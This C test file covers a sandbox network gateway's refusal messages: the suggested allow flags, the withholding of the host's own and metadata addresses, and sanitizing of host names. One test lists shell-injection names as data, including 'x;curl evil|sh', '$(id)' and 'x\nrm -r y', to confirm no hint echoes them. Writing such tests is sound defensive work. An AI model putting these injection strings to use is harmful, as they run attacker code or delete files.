/* test_net_sentence.c - what is said of a refusal of the network's.  The names
 * come from the gateway, which parses what the workload sends. */
#include <stdio.h>

#include "base/buf.h"
#include "base/scoped.h"
#include "supervise/net_report.h"

#include "t.h"

/* "10.1.2.3", which a name may lead to where that is allowed. */
static struct gateway_record refused(enum gateway_why why, const char *name)
{
    struct gateway_record r = { .kind = GATEWAY_DECIDED,
                                .what = GATEWAY_CONNECT,
                                .why = why,
                                .verdict_why = NET_BY_DEFAULT,
                                .port = 443 };

    net_addr_v4(&r.addr, (const uint8_t[]){ 10, 1, 2, 3 });
    (void)snprintf(r.name, sizeof(r.name), "%s", name);
    (void)snprintf(r.other, sizeof(r.other), "%s", name);
    return r;
}

static void check_hint(const struct gateway_record *r, const char *want)
{
    struct buf b = { .max = 4096 };

    NOTE(r->name);
    net_report_hint(r, &b);
    CHECK_STR(b.len ? b.data : "", want);
    buf_drop(&b);
}

TEST(a_hint_says_what_would_allow_it)
{
    struct gateway_record r = refused(GATEWAY_BY_ADDRESS, "db.example.test");

    check_hint(&r, "--allow-intranet-host db.example.test");
    net_addr_v4(&r.addr, (const uint8_t[]){ 169, 254, 169, 254 });
    check_hint(&r, "");
    r = refused(GATEWAY_BY_POLICY, "example.test");
    check_hint(&r, "--allow-host example.test:443");
    r = refused(GATEWAY_BY_MISMATCH, "example.test");
    check_hint(&r, "--allow-host example.test:443");
}

/* What listens there may be kept from everybody else. */
TEST(an_address_of_the_hosts_own_is_not_offered)
{
    struct gateway_record r = refused(GATEWAY_BY_POLICY, "");
    struct buf b = { .max = 4096 };

    net_addr_v4(&r.addr, (const uint8_t[]){ 203, 0, 113, 5 });
    check_hint(&r, "--allow-net 203.0.113.5:443");
    r.verdict_why = NET_BY_OWN;
    check_hint(&r, "");
    net_report_sentence(&r, &b);
    CHECK_STR(b.data, "connecting to 203.0.113.5:443 (tcp) was refused: it is "
                      "an address of this host's own, and no rule names it "
                      "alone");
    buf_drop(&b);
}

/* Somebody pastes it into a shell. */
TEST(a_hint_has_no_name_that_is_none)
{
    static const char *const names[] = {
        "x;curl evil|sh", "$(id)",        "a b", "`id`", "x\nrm -r y", "x'",
        "--allow-x",      "*.a.*.b.test", "x&y", "x>y",
    };
    static const enum gateway_why whys[] = { GATEWAY_BY_ADDRESS,
                                             GATEWAY_BY_POLICY,
                                             GATEWAY_BY_MISMATCH };

    for (size_t i = 0; i < ARRAY_LEN(names); i++)
        for (size_t k = 0; k < ARRAY_LEN(whys); k++) {
            const struct gateway_record r = refused(whys[k], names[i]);

            check_hint(&r, "");
        }
}

T_MAIN()
